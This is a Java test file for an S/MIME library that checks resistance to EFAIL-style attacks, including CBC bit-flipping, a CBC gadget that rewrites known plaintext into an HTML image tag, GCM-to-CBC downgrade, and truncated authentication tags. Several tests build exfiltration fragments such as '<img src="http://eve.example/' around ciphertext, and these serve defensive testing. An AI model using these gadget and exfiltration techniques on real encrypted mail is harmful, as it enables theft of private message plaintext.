package dev.tegami.smime;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tegami.mime.Content;
import dev.tegami.mime.ContentType;
import dev.tegami.mime.Field;
import dev.tegami.mime.Header;
import dev.tegami.mime.Message;
import dev.tegami.mime.Part;
import dev.tegami.mime.Parts;
import dev.tegami.mime.Source;
import dev.tegami.mime.TransferEncoding;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.bouncycastle.asn1.ASN1Set;
import org.bouncycastle.asn1.BEROctetString;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.cms.AuthEnvelopedData;
import org.bouncycastle.asn1.cms.CMSObjectIdentifiers;
import org.bouncycastle.asn1.cms.ContentInfo;
import org.bouncycastle.asn1.cms.EncryptedContentInfo;
import org.bouncycastle.asn1.cms.EnvelopedData;
import org.bouncycastle.asn1.nist.NISTObjectIdentifiers;
import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Ciphertext that is to be decrypted where its carrier can read along. */
class EfailTest {
    private final Trust trust = People.WORLD.trust();
    private final Keys keys = Keys.of(People.BOB);

    @Test
    void ciphertextInsideAMultipartStaysClosed() {
        Message sealed = Letters.plain().with(Smime.encrypt(People.BOB.certificate()));
        Part before = Letters.raw("Content-Type: text/html\n\n<img src=\"http://eve.example/\n")
                .root();
        Part after = Letters.raw("Content-Type: text/html\n\n\">\n").root();
        Parts parts = Parts.of(ContentType.of("multipart", "mixed"), List.of(before, sealed.root(), after));
        Header header = Header.of(List.of(Field.structured("From", "ada@example.org")));
        Opened opened = Smime.open(Letters.arrived(Message.of(Part.of(header, parts))), keys, trust);
        assertThat(opened.layers()).isEmpty();
        assertThat(opened.isDecrypted()).isFalse();
        assertThat(new String(opened.message().toBytes(), StandardCharsets.UTF_8))
                .doesNotContain("second line");
        assertThat(opened.message().root().parts().get(1).contentType().subtype())
                .isEqualTo("pkcs7-mime");
    }

    private static Message changed(Message sealed, int at) {
        Content content = sealed.root().content().orElseThrow();
        byte[] cms = content.bytes();
        cms[at < 0 ? cms.length + at : at] ^= 4;
        Content other = Content.of(Source.of(cms), content.contentType(), TransferEncoding.BASE64);
        return Message.of(sealed.root().with(other));
    }

    @Test
    void changedCbcCiphertextIsNeverTrustedAndMarkedMalleable() {
        Message sealed =
                Letters.plain().with(Smime.encrypt(People.BOB.certificate()).compatible());
        for (int at = -40; at < 0; at++) {
            Opened opened = Smime.open(changed(sealed, at), keys, trust);
            assertThat(opened.isTrusted()).isFalse();
            assertThat(opened.verdict().has(Reason.Code.MALLEABLE)).isTrue();
        }
    }

    @Test
    void changedCbcCiphertextAroundASignatureBreaksIt() {
        Message sealed = Letters.plain()
                .with(Smime.sign(People.ADA))
                .with(Smime.encrypt(People.BOB.certificate()).compatible());
        int length = sealed.root().content().orElseThrow().bytes().length;
        for (int at = length - 3000; at < length - 1500; at += 50) {
            Opened opened = Smime.open(changed(sealed, at), keys, trust);
            if (opened.isTrusted()) {
                // a field or a certificate that nobody needs: what is shown is what was signed
                assertThat(opened.message().text()).isEqualTo(Letters.plain().text());
            }
        }
    }

    @Test
    void changedGcmCiphertextReleasesNothing() {
        Message sealed = Letters.plain().with(Smime.encrypt(People.BOB.certificate()));
        for (int at = -60; at < 0; at++) {
            Opened opened = Smime.open(changed(sealed, at), keys, trust);
            assertThat(opened.isDecrypted()).isFalse();
            assertThat(opened.message().text().orElse("")).doesNotContain("second line");
        }
    }

    @Test
    void everyFailureAfterTheKeyLooksTheSame() {
        Message sealed =
                Letters.plain().with(Smime.encrypt(People.BOB.certificate()).rsaPkcs1());
        byte[] cms = sealed.root().content().orElseThrow().bytes();
        int wrapped = -1;
        for (int i = 0; i + 4 < cms.length; i++) {
            if (cms[i] == 4 && cms[i + 1] == (byte) 0x82 && cms[i + 2] == 1 && cms[i + 3] == 0) {
                wrapped = i + 4;
                break;
            }
        }
        assertThat(wrapped).isPositive();
        for (int at = wrapped; at < wrapped + 256; at += 17) {
            Opened opened = Smime.open(changed(sealed, at), keys, trust);
            assertThat(opened.layers().get(0).reasons())
                    .containsExactly(new Reason(Reason.Code.DECRYPTION_FAILED, "the content cannot be decrypted"));
        }
    }

    /** A block of known plaintext turned into a block of one's own, at the price of a block of rubbish before it. */
    @Test
    void gadgetsInCbcCiphertextAreMarkedMalleableAndNeverTrusted() {
        Message sealed =
                Letters.plain().with(Smime.encrypt(People.BOB.certificate()).compatible());
        byte[] cms = sealed.root().content().orElseThrow().bytes();
        byte[] known = "Content-Type: te".getBytes(StandardCharsets.US_ASCII);
        byte[] wanted = "<img src=eve.ex/".getBytes(StandardCharsets.US_ASCII);
        Opened plain = open(sealed);
        assertThat(new String(octets(plain), StandardCharsets.UTF_8)).contains("Content-Type: te");
        // the initialisation vector is the last thing before the ciphertext: 04 10, sixteen octets, 80
        int iv = -1;
        for (int i = 0; i + 19 < cms.length; i++) {
            iv = cms[i] == 4 && cms[i + 1] == 16 && cms[i + 18] == (byte) 0x80 ? i + 2 : iv;
        }
        assertThat(iv).isPositive();
        for (int i = 0; i < 16; i++) {
            cms[iv + i] ^= (byte) (known[i] ^ wanted[i]);
        }
        Opened gadget = open(Raw.opaque("ada@example.org", cms));
        assertThat(gadget.isDecrypted()).isTrue();
        assertThat(gadget.verdict().has(Reason.Code.MALLEABLE)).isTrue();
        assertThat(gadget.isTrusted()).isFalse();
        assertThat(((Layer.Encrypted) gadget.layers().get(0)).protection()).isEqualTo(Layer.Protection.MALLEABLE);
    }

    @Test
    void gcmCiphertextRelabelledAsCbcIsMalleableAtBest() throws Exception {
        Message sealed = Letters.plain().with(Smime.encrypt(People.BOB.certificate()));
        byte[] cms = sealed.root().content().orElseThrow().bytes();
        AuthEnvelopedData data =
                AuthEnvelopedData.getInstance(ContentInfo.getInstance(cms).getContent());
        byte[] ciphertext =
                data.getAuthEncryptedContentInfo().getEncryptedContent().getOctets();
        EncryptedContentInfo content = new EncryptedContentInfo(
                CMSObjectIdentifiers.data,
                new AlgorithmIdentifier(NISTObjectIdentifiers.id_aes256_CBC, new DEROctetString(new byte[16])),
                new BEROctetString(Arrays.copyOf(ciphertext, ciphertext.length / 16 * 16)));
        EnvelopedData downgraded = new EnvelopedData(null, data.getRecipientInfos(), content, (ASN1Set) null);
        Opened opened = open(Raw.opaque(
                "ada@example.org", new ContentInfo(CMSObjectIdentifiers.envelopedData, downgraded).getEncoded()));
        assertThat(opened.isTrusted()).isFalse();
        assertThat(opened.verdict().has(Reason.Code.MALLEABLE)).isTrue();
        assertThat(new String(octets(opened), StandardCharsets.UTF_8)).doesNotContain("second line");
    }

    @Test
    void anAuthenticatedCipherWithoutItsTagIsNotDecrypted() throws Exception {
        Message sealed = Letters.plain().with(Smime.encrypt(People.BOB.certificate()));
        AuthEnvelopedData data = AuthEnvelopedData.getInstance(
                ContentInfo.getInstance(sealed.root().content().orElseThrow().bytes())
                        .getContent());
        EnvelopedData stripped =
                new EnvelopedData(null, data.getRecipientInfos(), data.getAuthEncryptedContentInfo(), (ASN1Set) null);
        Opened opened = open(Raw.opaque(
                "ada@example.org", new ContentInfo(CMSObjectIdentifiers.envelopedData, stripped).getEncoded()));
        assertThat(opened.isDecrypted()).isFalse();
        assertThat(opened.verdict().has(Reason.Code.UNKNOWN_ALGORITHM)).isTrue();
    }

    @Test
    void aTagCutShortIsNoTag() throws Exception {
        Message sealed = Letters.plain().with(Smime.encrypt(People.BOB.certificate()));
        AuthEnvelopedData data = AuthEnvelopedData.getInstance(
                ContentInfo.getInstance(sealed.root().content().orElseThrow().bytes())
                        .getContent());
        for (int length = 0; length <= 16; length++) {
            AuthEnvelopedData cut = new AuthEnvelopedData(
                    null,
                    data.getRecipientInfos(),
                    data.getAuthEncryptedContentInfo(),
                    null,
                    new DEROctetString(Arrays.copyOf(data.getMac().getOctets(), length)),
                    null);
            Opened opened = open(Raw.opaque(
                    "ada@example.org", new ContentInfo(CMSObjectIdentifiers.authEnvelopedData, cut).getEncoded()));
            assertThat(opened.isDecrypted()).as("a tag of " + length).isEqualTo(length == 16);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"mixed", "related", "alternative", "signed", "encrypted", "report"})
    void ciphertextIsNeverMixedWithAnything(String kind) {
        Message sealed = Letters.plain().with(Smime.encrypt(People.BOB.certificate()));
        Part forwarded = Letters.raw("Content-Type: message/rfc822\n\n"
                        + new String(sealed.toBytes(), StandardCharsets.US_ASCII).replace("\r\n", "\n"))
                .root();
        for (Part each : List.of(sealed.root(), forwarded)) {
            Parts parts = Parts.of(ContentType.of("multipart", kind), List.of(each, each));
            Header header = Header.of(List.of(Field.structured("From", "ada@example.org")));
            Opened opened = open(Letters.arrived(Message.of(Part.of(header, parts))));
            assertThat(opened.layers()).isEmpty();
            assertThat(new String(octets(opened), StandardCharsets.UTF_8)).doesNotContain("second line");
        }
    }

    private Opened open(Message message) {
        return Smime.open(message, keys, trust);
    }

    private static byte[] octets(Opened opened) {
        return opened.message().toBytes();
    }
}
